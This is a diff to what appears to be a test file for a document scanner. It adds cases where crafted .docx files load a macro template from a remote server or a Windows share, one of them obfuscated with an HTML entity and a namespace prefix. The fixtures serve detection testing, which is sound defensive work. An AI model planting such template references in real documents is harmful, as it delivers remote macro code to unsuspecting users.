@@ -364,6 +364,23 @@ case("damaged.epub", "archive-broken", "a part with a wrong checksum", lambda: f
 case("cut.epub", "archive-broken", "half an e-book", lambda: epub()[:900])
 case("locked.epub", "archive-encrypted", "encrypted parts", lambda: encrypted(epub()))
 
+case(
+    "prefix.docx",
+    "macro",
+    "a template from a server, in another spelling",
+    lambda: docx({
+        "word/_rels/settings.xml.rels": template(b"&#104;ttp://192.0.2.1/t.dotm")
+        .replace(b"<Relationship ", b"<r:Relationship ")
+        .replace(b"<Relationships>", b'<Relationships xmlns:r="x">')
+    }),
+)
+case(
+    "share.docx",
+    "macro",
+    "loads a template from a Windows share",
+    lambda: docx({"word/_rels/settings.xml.rels": template(b"file:///\\\\192.0.2.1\\t.dotm")}),
+)
+
 # --- recordings
 
 case("cut.mp4", "media-broken", "half a film", lambda: good.boxes(b"isom")[:1500])
